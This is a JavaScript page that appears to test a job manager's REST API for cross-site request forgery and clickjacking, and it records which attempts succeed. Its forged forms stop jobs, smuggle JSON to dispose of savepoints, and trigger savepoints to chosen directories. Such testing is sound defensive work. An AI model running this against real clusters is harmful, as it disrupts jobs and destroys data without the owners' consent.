// The target, the job, a savepoint and a directory come in the page's query string.
(function () {
  const q = new URLSearchParams(location.search);
  const target = q.get("target"), job = q.get("job");
  const settled = [];

  function sink(name) {  // a frame for a form's answer; resolves when that answer loaded
    const frame = document.createElement("iframe");
    frame.name = name;
    document.body.append(frame);
    return new Promise((resolve) => frame.addEventListener("load", () => resolve(name), { once: true }));
  }

  // 1. <form method=POST> with an empty body: stop the job.
  const stop = document.getElementById("stop");
  stop.action = `${target}/jobs/${job}/stop`;
  settled.push(sink("sink-stop"));
  stop.submit();

  // 2. <form enctype=text/plain> whose body is JSON: dispose of a real savepoint.
  const dispose = document.getElementById("dispose");
  dispose.action = `${target}/savepoint-disposal`;
  const field = document.getElementById("dispose-field");
  field.name = `{"savepoint-path": "${q.get("savepoint")}", "x": "`;
  field.value = `"}`;
  settled.push(sink("sink-dispose"));
  dispose.submit();

  // 3. fetch() with Content-Type text/plain (no preflight): a savepoint where it chooses.
  const body = JSON.stringify({ "target-directory": q.get("directory") });
  settled.push(fetch(`${target}/jobs/${job}/savepoints`, {
    method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body,
  }).then(() => "text/plain fetch answered", () => "text/plain fetch failed"));

  // 4. What needs a preflight (JSON, PATCH): the browser asks first.
  settled.push(fetch(`${target}/jobs/${job}/stop`, {
    method: "POST", headers: { "Content-Type": "application/json" }, body: "{}",
  }).then((r) => `json fetch ${r.status}`, () => "json fetch blocked"));
  settled.push(fetch(`${target}/jobs/${job}?mode=cancel`, { method: "PATCH" })
    .then((r) => `patch ${r.status}`, () => "patch blocked"));

  // 5. The dashboard in a frame (clickjacking).
  const framed = document.createElement("iframe");
  framed.id = "framed";
  framed.src = `${target}/#/job/${job}`;
  document.body.append(framed);

  Promise.all(settled).then((results) => {
    document.body.dataset.results = JSON.stringify(results);
    document.title = "settled";
  });
})();
